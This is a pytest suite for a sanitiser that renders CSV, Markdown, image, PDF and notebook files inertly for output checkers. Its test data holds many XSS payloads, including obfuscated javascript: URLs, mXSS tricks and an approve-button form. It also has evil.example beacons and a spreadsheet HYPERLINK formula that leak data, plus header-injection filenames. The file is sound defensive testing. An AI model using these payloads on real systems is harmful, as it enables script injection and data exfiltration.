"""Tests for egress.files.render: files shown to output checkers, with nothing able to run.

Every rendering is parsed again here with the standard library's ``html.parser`` (independently
of the module's own check) and must hold no script element, no event-handler attribute, no
``javascript:`` URL, no ``style``, and no ``src`` other than the raw-file URL the test gave or an
inline PNG/JPEG. Notebooks go through the real nbconvert; nothing is mocked.
"""

from __future__ import annotations

import base64
import re
import struct
import zlib
from html.parser import HTMLParser

import nbformat
import pytest
from nbformat.v4 import (
    new_code_cell,
    new_markdown_cell,
    new_notebook,
    new_output,
    new_raw_cell,
)

from egress.files.render import (
    CHECKER_PAGE_CSP,
    CONTENT_TYPES,
    KINDS,
    RAW_FILE_CSP,
    Rendered,
    RenderError,
    find_active_content,
    raw_response_headers,
    render_for_checker,
    sanitise_html,
)

RAW = "/services/egress/api/requests/7/files/3/raw"

# --- an independent look at the HTML ---------------------------------------------------------

DANGEROUS_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
    "button", "textarea", "select", "style", "link", "meta", "base", "svg", "math", "template",
    "audio", "video", "source", "portal",
}  # fmt: skip


class Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str, str]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend((tag, name, value or "") for name, value in attrs)

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


def compact(value: str) -> str:
    return re.sub(r"[\s\x00-\x1f]+", "", value).lower()


def assert_inert(html: str, allowed_src: tuple[str, ...] = (), frames: tuple[str, ...] = ()):
    found = inspect(html)
    tags = set(found.tags) - ({"iframe"} if frames else set())
    assert not tags & DANGEROUS_TAGS, sorted(tags & DANGEROUS_TAGS)
    for tag, name, value in found.attrs:
        assert not name.startswith("on"), (tag, name, value)
        assert name != "style", (tag, name, value)
        assert name not in {"srcset", "action", "formaction", "background", "poster", "data"}
        assert not compact(value).startswith(("javascript:", "vbscript:")), (tag, name, value)
        assert "javascript:" not in compact(value), (tag, name, value)
        if name == "src":
            ok = value in allowed_src or re.fullmatch(
                r"data:image/(png|jpeg);base64,[A-Za-z0-9+/=]*", value
            )
            if tag == "iframe":
                ok = value in frames
            assert ok, f"external or unexpected src on <{tag}>: {value!r}"
        if name == "href":
            assert not compact(value).startswith("data:"), value
        if tag == "iframe":
            assert dict((n, v) for t, n, v in found.attrs if t == "iframe").get("sandbox") == ""
    return found


def text_of(html: str) -> str:
    return "".join(inspect(html).text)


def attrs_of(html: str, tag: str, name: str) -> list[str]:
    return [v for t, n, v in inspect(html).attrs if t == tag and n == name]


# --- builders --------------------------------------------------------------------------------


def png_bytes(width: int = 3, height: int = 2) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + body))
        return struct.pack(">I", len(body)) + kind + body + crc

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    raw = b"".join(b"\x00" + b"\x80" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def jpeg_bytes(width: int = 640, height: int = 480) -> bytes:
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    sof0 = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + app0 + sof0 + b"\xff\xd9"


PNG_B64 = base64.b64encode(png_bytes()).decode()
JPEG_B64 = base64.b64encode(jpeg_bytes()).decode()

HOSTILE_HTML = [
    "<script>alert('script')</script>",
    "<img src=x onerror=\"alert('onerror')\">",
    "<a href=\"javascript:alert('href')\">click me</a>",
    "<a href=\"&#106;avascript:alert('entity')\">entity</a>",
    "<a href=\"java\tscript:alert('tab')\">tab</a>",
    "<a href=\"data:text/html,<script>alert('data')</script>\">data link</a>",
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<img src="https://evil.example/track.png?d=secret">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg onload=\"alert('svg')\"><script>alert('svg2')</script></svg>",
    "<math><mi><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></mi></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\"></p></noscript>",
    '<form action="/services/egress/api/approve"><button formaction="javascript:alert(1)">'
    "Approve</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'meta\')">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<div style="background:url(https://evil.example/bg)">styled</div>',
    "<style>@import url(https://evil.example/x.css);</style>",
    '<div class="btn havre-approve position-fixed" id="config">overlay</div>',
    "<details><summary>more</summary>folded away</details>",
]


def hostile_notebook() -> bytes:
    nb = new_notebook()
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3"}
    nb.cells.append(new_markdown_cell("# Results\n\n" + "\n".join(HOSTILE_HTML)))
    nb.cells.append(
        new_code_cell(
            "df.head()",
            execution_count=1,
            outputs=[
                new_output(
                    "execute_result",
                    data={
                        "text/plain": "   n\n0  12",
                        "text/html": "<table class='dataframe'><tr><td>safe-cell-42</td></tr>"
                        "</table>" + "".join(HOSTILE_HTML),
                    },
                    metadata={"text/html": {"isolated": True}},
                    execution_count=1,
                ),
                new_output(
                    "display_data",
                    data={
                        "application/javascript": "alert('application/javascript')",
                        "text/plain": "<IPython.core.display.Javascript object>",
                    },
                ),
                new_output("display_data", data={"application/javascript": "alert('only js')"}),
                new_output(
                    "display_data",
                    data={
                        "application/vnd.jupyter.widget-view+json": {"model_id": "abc"},
                        "text/plain": "IntSlider(value=3)",
                    },
                ),
                new_output("display_data", data={"image/png": PNG_B64, "text/plain": "<Fig>"}),
                new_output("display_data", data={"image/jpeg": JPEG_B64}),
                new_output("display_data", data={"image/png": "PHNjcmlwdD4="}),  # not a PNG
                new_output("display_data", data={"image/svg+xml": "<svg onload='alert(1)'/>"}),
                new_output(
                    "display_data",
                    data={"text/markdown": "<script>alert('md')</script>**bold**"},
                ),
                new_output("stream", name="stdout", text="<script>alert('stream')</script>\n"),
                new_output(
                    "error",
                    ename="ValueError",
                    evalue="<img src=x onerror=alert(1)>",
                    traceback=["\x1b[31mValueError\x1b[0m: <b>bad</b>"],
                ),
            ],
        )
    )
    nb.cells.append(new_raw_cell("<script>alert('raw')</script>", metadata={"format": "text/html"}))
    return nbformat.writes(nb).encode()


# --- tables ----------------------------------------------------------------------------------


def test_csv_script_cell_is_escaped():
    data = b'region,count\n<script>alert(1)</script>,12\n"<img src=x onerror=alert(2)>",7\n'
    rendered = render_for_checker("csv", data, name="t.csv")
    found = assert_inert(rendered.html)
    assert "script" not in found.tags and "img" not in found.tags
    assert "<script>alert(1)</script>" in text_of(rendered.html)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered.html
    assert rendered.content_type_for_raw == "text/csv; charset=utf-8"
    assert not rendered.truncated


def test_csv_table_has_header_row_numbers_and_every_cell():
    data = b"region,age,count\nBretagne,80+,12\n\nNormandie,18-24,&amp;\n"
    rendered = render_for_checker("csv", data, name="t.csv")
    found = inspect(rendered.html)
    assert found.tags.count("tr") == 3  # header + 2 data rows (the blank line is skipped)
    # Row numbers are the file's record numbers (header = 1); the blank line 3 still counts.
    assert [t for t in found.text if t.strip().isdigit()][:4] == ["1", "2", "12", "4"]
    assert "&amp;" in text_of(rendered.html)  # shown literally, not as an entity
    assert rendered.notes[0] == "2 data rows and 3 columns."


def test_formula_cells_shown_as_text_and_marked():
    data = (
        b'name,value\nx,"=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"\n'
        b"y,+1+2\nz,@SUM(A1)\nw,-3.5\n"
    )
    rendered = render_for_checker("csv", data, name="f.csv")
    found = assert_inert(rendered.html)
    assert "a" not in found.tags
    text = text_of(rendered.html)
    assert '=HYPERLINK("http://evil.example/?d="&A1,"click")' in text
    assert "+1+2" in text and "@SUM(A1)" in text
    marked = [v for t, n, v in found.attrs if n == "class" and "havre-cell-formula" in v]
    assert len(marked) == 3  # -3.5 is a number, not a formula
    assert any("formula" in note for note in rendered.notes)


def test_cell_verdicts_and_reasons_are_classes_and_escaped_titles():
    data = b"region,80+\nBretagne,3\nNormandie,40\n"
    reasons = {(0, 1): ['3 contributors < 10 "threshold" <script>x</script>']}
    rendered = render_for_checker(
        "csv",
        data,
        name="t.csv",
        cell_verdicts={(0, 1): "fail", (1, 1): "pass", (1, 0): "review"},
        cell_reasons=reasons,
    )
    assert_inert(rendered.html)
    cells = [(v, t) for t, n, v in inspect(rendered.html).attrs if t == "td" and n == "class"]
    classes = [v for v, _ in cells]
    assert classes == [
        "havre-cell",
        "havre-cell havre-cell-fail",
        "havre-cell havre-cell-review",
        "havre-cell havre-cell-pass",
    ]
    titles = attrs_of(rendered.html, "td", "title")
    assert titles[0] == 'fail: 3 contributors < 10 "threshold" <script>x</script>'
    assert "<script>x" not in rendered.html


def test_bad_verdict_is_refused():
    with pytest.raises(RenderError, match="verdict"):
        render_for_checker("csv", b"a\n1\n", name="t.csv", cell_verdicts={(0, 0): "ok"})


def test_large_csv_is_truncated_with_a_note():
    rows = "\n".join(f"r{i},{i}" for i in range(2500))
    data = ("name,value\n" + rows + "\n").encode()
    rendered = render_for_checker(
        "csv", data, name="big.csv", max_rows=1000, cell_verdicts={(2000, 1): "fail"}
    )
    assert rendered.truncated
    assert inspect(rendered.html).tags.count("tr") == 1001
    assert "r999" in rendered.html and "r1000" not in rendered.html
    assert any("first 1,000 of 2,500 data rows" in note for note in rendered.notes)
    assert any("Beyond the rows shown: 1 failing" in note for note in rendered.notes)


def test_tsv_and_semicolon_csv():
    tsv = render_for_checker("tsv", b"a\tb\n1,5\t2\n", name="t.tsv")
    assert "1,5" in text_of(tsv.html) and inspect(tsv.html).tags.count("td") == 2
    assert tsv.content_type_for_raw.startswith("text/tab-separated-values")
    semi = render_for_checker("csv", b"a;b\n1,5;2\n", name="t.csv")
    assert inspect(semi.html).tags.count("td") == 2


def test_non_utf8_csv_is_shown_with_a_clear_note():
    rendered = render_for_checker("csv", b"ville,n\nS\xe8te,12\n", name="latin1.csv")
    assert_inert(rendered.html)
    assert "S\ufffdte" in text_of(rendered.html)
    note = next(n for n in rendered.notes if "UTF-8" in n)
    assert "not valid UTF-8" in note and "offset 9" in note


def test_unparseable_csv_falls_back_to_text():
    rendered = render_for_checker("csv", b'a,b\n"unterminated,1\n', name="bad.csv")
    assert "pre" in inspect(rendered.html).tags
    assert any("could not be read as a table" in n for n in rendered.notes)


def test_invisible_and_bidi_characters_are_made_visible():
    data = "name,value\nadmin\u202e\u2066,1\u200b2\n".encode()
    rendered = render_for_checker("csv", data, name="t.csv")
    text = text_of(rendered.html)
    assert "[U+202E]" in text and "[U+2066]" in text and "[U+200B]" in text
    assert "\u202e" not in text
    assert any("invisible" in n for n in rendered.notes)


# --- text and Markdown -----------------------------------------------------------------------


def test_text_is_escaped_in_pre():
    data = b"line 1\n</pre><script>alert(1)</script>\n"
    rendered = render_for_checker("text", data, name="log.txt")
    found = assert_inert(rendered.html)
    assert found.tags == ["pre"]
    assert "</pre><script>alert(1)</script>" in text_of(rendered.html)


def test_non_utf8_text_has_a_note():
    rendered = render_for_checker("text", b"caf\xe9 \xff\n", name="t.txt")
    assert "caf\ufffd" in text_of(rendered.html)
    assert any("not valid UTF-8" in n and "offset 3" in n for n in rendered.notes)


def test_markdown_raw_html_is_never_markup():
    source = (
        "# Method\n\nSee [the docs](https://example.org/docs) and [a path](../secret.csv).\n\n"
        "[bad](javascript:alert(1)) [worse](data:text/html,hi)\n\n"
        "![tracker](https://evil.example/t.png?d=x) ![inline](data:image/png;base64,"
        + PNG_B64
        + ")\n\n"
        + "\n\n".join(HOSTILE_HTML)
        + "\n\n<a href='javascript:alert(1)'>raw link</a>\n"
    )
    rendered = render_for_checker("markdown", source.encode(), name="README.md")
    found = assert_inert(rendered.html)
    assert rendered.content_type_for_raw == "text/plain; charset=utf-8"
    text = text_of(rendered.html)
    assert "<script>alert('script')</script>" in text  # raw HTML shown as text
    assert found.tags.count("img") == 1  # only the inline PNG
    links = {v: t for t, n, v in found.attrs if n == "href"}
    assert list(links) == ["https://example.org/docs"]
    assert attrs_of(rendered.html, "a", "rel")[0] == "noopener noreferrer"
    assert "[image not shown: tracker]" in text
    assert any("1 image not shown" in n for n in rendered.notes)


# --- images, SVG, PDF ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "data", "dims"),
    [("png", png_bytes(3, 2), "3 × 2 pixels"), ("jpeg", jpeg_bytes(640, 480), "640 × 480")],
)
def test_images_are_shown_from_the_raw_url(kind, data, dims):
    rendered = render_for_checker(kind, data, name=f"fig.{kind}", raw_url=RAW)
    found = assert_inert(rendered.html, allowed_src=(RAW,))
    assert attrs_of(rendered.html, "img", "src") == [RAW]
    assert "base64" not in rendered.html and "data:" not in rendered.html
    assert rendered.content_type_for_raw == f"image/{kind}"
    assert any(dims in n for n in rendered.notes)
    assert found.tags == ["figure", "img"]


def test_svg_only_through_img_and_served_sandboxed():
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
        b'<image href="https://evil.example/x.png"/></svg>'
    )
    rendered = render_for_checker("svg", svg, name="plot.svg", raw_url=RAW)
    found = assert_inert(rendered.html, allowed_src=(RAW,))
    assert found.tags == ["figure", "img"]
    assert attrs_of(rendered.html, "img", "src") == [RAW]
    assert "alert" not in rendered.html and "svg+xml" not in rendered.html
    headers = raw_response_headers("svg", "plot.svg")
    assert headers["Content-Type"] == "image/svg+xml"
    assert headers["X-Content-Type-Options"] == "nosniff"
    csp = headers["Content-Security-Policy"]
    assert csp.startswith("default-src 'none'; style-src 'unsafe-inline'; sandbox")
    assert re.search(r"(^|; )sandbox(;|$)", csp)
    assert headers["Content-Disposition"] == 'inline; filename="plot.svg"'


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "//evil.example/x", "https://evil.example/x", "a b", None, ""]
)
def test_raw_url_must_be_a_relative_url(url):
    with pytest.raises(RenderError, match="raw_url"):
        render_for_checker("png", png_bytes(), name="x.png", raw_url=url)


def simple_pdf(pages: int) -> bytes:
    kids = " ".join(f"{3 + i} 0 R" for i in range(pages))
    objects = [
        b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj",
        f"2 0 obj << /Type /Pages /Kids [{kids}] /Count {pages} >> endobj".encode(),
    ]
    objects += [
        f"{3 + i} 0 obj << /Type /Page /Parent 2 0 R >> endobj".encode() for i in range(pages)
    ]
    return b"%PDF-1.4\n" + b"\n".join(objects) + b"\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def object_stream_pdf(pages: int) -> bytes:
    body = f"<< /Type /Pages /Kids [4 0 R] /Count {pages} >> << /Type /Catalog >>".encode()
    stream = zlib.compress(b"2 0 3 60 " + body)
    return (
        b"%PDF-1.5\n1 0 obj << /Type /ObjStm /N 2 /First 9 /Filter /FlateDecode /Length "
        + str(len(stream)).encode()
        + b" >>\nstream\n"
        + stream
        + b"\nendstream\nendobj\n%%EOF\n"
    )


def test_pdf_is_not_inline_and_shows_metadata():
    rendered = render_for_checker("pdf", simple_pdf(3), name="report.pdf", raw_url=RAW)
    found = assert_inert(rendered.html, allowed_src=(RAW,))
    assert not {"iframe", "object", "embed", "img"} & set(found.tags)
    text = text_of(rendered.html)
    assert "Pages3" in text and "PDF version1.4" in text
    assert any("open the file in a sandboxed viewer" in n.lower() for n in rendered.notes)
    assert attrs_of(rendered.html, "a", "href") == [RAW]
    assert rendered.content_type_for_raw == "application/pdf"
    headers = raw_response_headers("pdf", "report.pdf")
    assert headers["Content-Disposition"].startswith("attachment;")
    assert "sandbox" in headers["Content-Security-Policy"]


def test_pdf_page_count_from_a_compressed_object_stream():
    rendered = render_for_checker("pdf", object_stream_pdf(12), name="r.pdf", raw_url=RAW)
    assert "Pages12" in text_of(rendered.html).replace(" ", "")


def test_pdf_preview_is_a_sandboxed_frame():
    preview = RAW + "?inline=1"
    rendered = render_for_checker(
        "pdf", simple_pdf(1), name="r.pdf", raw_url=RAW, pdf_preview_url=preview
    )
    found = assert_inert(rendered.html, allowed_src=(RAW,), frames=(preview,))
    assert found.tags.count("iframe") == 1
    assert attrs_of(rendered.html, "iframe", "sandbox") == [""]
    headers = raw_response_headers("pdf", "r.pdf", inline=True)
    assert headers["Content-Disposition"].startswith("inline;")
    assert headers["Content-Security-Policy"].endswith("sandbox; frame-ancestors 'self'")
    assert headers["X-Frame-Options"] == "SAMEORIGIN"


# --- raw headers -----------------------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_raw_headers_for_every_kind(kind):
    name = 'dir/../R\u00e9sultats "final"\r\nX-Evil: 1\u202egpj.' + {"jpeg": "jpg"}.get(kind, "csv")
    headers = raw_response_headers(kind, name)
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Content-Type"] == CONTENT_TYPES[kind]
    assert headers["Content-Security-Policy"].startswith(RAW_FILE_CSP)
    assert headers["Cache-Control"] == "no-store"
    for value in headers.values():
        assert all(32 <= ord(c) < 127 for c in value), value  # ASCII, no CR/LF
    disposition = headers["Content-Disposition"]
    filename = re.search(r'filename="([^"]*)"', disposition).group(1)
    assert re.fullmatch(r"[A-Za-z0-9._-]+", filename), filename
    assert "/" not in filename and ".." not in filename
    assert disposition.count('"') == 2
    assert "filename*=UTF-8''" in disposition  # the real name, percent-encoded
    assert "%E2%80%AE" not in disposition  # the bidi override is dropped even there


def test_raw_headers_default_filename_and_unknown_kind():
    assert 'filename="file.ipynb"' in raw_response_headers("notebook")["Content-Disposition"]
    assert raw_response_headers("notebook")["Content-Disposition"].startswith("attachment")
    with pytest.raises(RenderError, match="unknown kind"):
        raw_response_headers("html")
    with pytest.raises(RenderError, match="unknown kind"):
        render_for_checker("exe", b"MZ", name="x.exe")


def test_checker_page_csp():
    directives = dict(d.strip().split(" ", 1) for d in CHECKER_PAGE_CSP.split(";"))
    assert directives["default-src"] == "'none'"
    assert directives["script-src"] == "'self'"
    assert directives["img-src"] == "'self' data:"
    assert directives["frame-ancestors"] == "'none'"
    assert directives["base-uri"] == "'none'"
    assert "unsafe-eval" not in CHECKER_PAGE_CSP


# --- notebooks -------------------------------------------------------------------------------


def test_hostile_notebook_renders_with_nothing_executable():
    rendered = render_for_checker("notebook", hostile_notebook(), name="analysis.ipynb")
    assert isinstance(rendered, Rendered)
    found = assert_inert(rendered.html)
    assert not find_active_content(rendered.html)
    text = text_of(rendered.html)
    # What is safe is still there.
    assert "safe-cell-42" in text and "df.head()" in text
    assert "<script>alert('stream')</script>" in text  # stream text, escaped
    assert "<script>alert('raw')</script>" in text  # the raw cell, as text
    assert "folded away" in text and ("details", "open", "") in found.attrs
    images = attrs_of(rendered.html, "img", "src")
    assert f"data:image/png;base64,{PNG_B64}" in images
    assert f"data:image/jpeg;base64,{JPEG_B64}" in images
    assert not [src for src in images if "PHNjcmlwdD4" in src]  # the fake PNG
    # What was dropped is said, in place and in the notes.
    assert text.count("[Havre removed this output: application/javascript") == 2
    assert "application/vnd.jupyter.widget-view+json" in text
    assert "image/svg+xml" in text
    notes = " ".join(rendered.notes)
    assert "application/javascript" in notes and "widget state was removed" in notes
    assert "<script> element" in notes and "onerror event-handler attribute" in notes
    # No researcher class or id can reach the page's own CSS or script names.
    classes = " ".join(v for _, n, v in found.attrs if n == "class").split()
    assert classes[0] == "havre-nb"  # the module's own wrapper
    assert "btn" not in classes and not [c for c in classes[1:] if c.startswith("havre-")]
    assert "config" not in [v for _, n, v in found.attrs if n == "id"]
    assert all(v.startswith("user-content-") for _, n, v in found.attrs if n == "id")


def test_notebook_markdown_attachments_only_png_or_jpeg():
    nb = new_notebook()
    cell = new_markdown_cell("![ok](attachment:ok.png) ![bad](attachment:bad.svg)")
    cell["attachments"] = {
        "ok.png": {"image/png": PNG_B64},
        "bad.svg": {"image/svg+xml": base64.b64encode(b"<svg onload=alert(1)/>").decode()},
    }
    nb.cells.append(cell)
    rendered = render_for_checker("notebook", nbformat.writes(nb).encode(), name="a.ipynb")
    assert_inert(rendered.html)
    assert attrs_of(rendered.html, "img", "src") == [f"data:image/png;base64,{PNG_B64}"]
    assert any("attachment 'bad.svg'" in n for n in rendered.notes)


def test_not_a_notebook_is_shown_as_text():
    rendered = render_for_checker("notebook", b'{"cells": "<script>x</script>"', name="x.ipynb")
    assert_inert(rendered.html)
    assert any("could not be read as a notebook" in n for n in rendered.notes)
    assert '"<script>x</script>"' in text_of(rendered.html)


def test_notebook_rendering_keeps_errors_and_prompts_readable():
    nb = new_notebook()
    nb.cells.append(
        new_code_cell(
            "1/0",
            execution_count=5,
            outputs=[
                new_output(
                    "error",
                    ename="ZeroDivisionError",
                    evalue="division by zero",
                    traceback=["\x1b[0;31mZeroDivisionError\x1b[0m: division by zero"],
                )
            ],
        )
    )
    rendered = render_for_checker("notebook", nbformat.writes(nb).encode(), name="e.ipynb")
    text = text_of(rendered.html)
    assert "ZeroDivisionError: division by zero" in text and "[5]" in text
    assert "\x1b" not in text


# --- the sanitiser and the checker used by every rendering -----------------------------------


def test_sanitise_html_allow_list():
    notes: list[str] = []
    clean = sanitise_html("".join(HOSTILE_HTML) + "<h2 id='x'>H</h2><a href='#x'>to</a>", notes)
    found = assert_inert(clean)
    assert ("h2", "id", "user-content-x") in found.attrs
    assert ("a", "href", "#user-content-x") in found.attrs
    assert "overlay" in text_of(clean) and "styled" in text_of(clean)
    assert "img" not in inspect(clean).tags  # none had an inline PNG/JPEG source
    assert "[image not shown]" in text_of(clean)  # not a broken-image icon
    assert notes and notes[0].startswith("Removed from the file's HTML")


def test_find_active_content_flags_what_it_should():
    assert find_active_content("<p class='x'>ok <a href='https://a.example'>a</a></p>") == []
    for snippet in HOSTILE_HTML[:19]:
        assert find_active_content(snippet), snippet
    assert find_active_content("<iframe src='/x' sandbox></iframe>", sandboxed_frames=["/x"]) == []
    assert find_active_content("<iframe src='/x'></iframe>", sandboxed_frames=["/x"])


# --- a large table and a long notebook, rendered whole -----------------------------------


def test_a_1000_row_table_and_a_50_cell_notebook_render_whole():
    rows = "\n".join(f"region{i % 13},{i % 90}+,{i},{i * 3.5}" for i in range(1000))
    data = ("region,age,count,cost\n" + rows + "\n").encode()
    verdicts = {(i, 2): "fail" for i in range(0, 1000, 7)}
    table = render_for_checker("csv", data, name="t.csv", cell_verdicts=verdicts)
    assert not table.truncated
    assert table.html.count("havre-cell-fail") == len(verdicts) == 143
    assert ">3496.5<" in table.html  # the last row (999 x 3.5) is there

    nb = new_notebook()
    for i in range(50):
        outputs = [new_output("stream", name="stdout", text=f"printed-{i}\n")]
        if i % 5 == 0:
            outputs.append(new_output("display_data", data={"image/png": PNG_B64}))
        if i % 7 == 0:
            html = "<table class='dataframe'>" + "<tr><td>1</td></tr>" * 50 + "</table>"
            outputs.append(new_output("execute_result", data={"text/html": html}))
        nb.cells.append(new_code_cell(f"x = {i}\nprint(x)", execution_count=i, outputs=outputs))
    page = render_for_checker("notebook", nbformat.writes(nb).encode(), name="n.ipynb")
    assert not page.truncated
    assert all(f"printed-{i}" in page.html for i in range(50))
    assert page.html.count("data:image/png") >= 10  # the ten figures, inline and inert
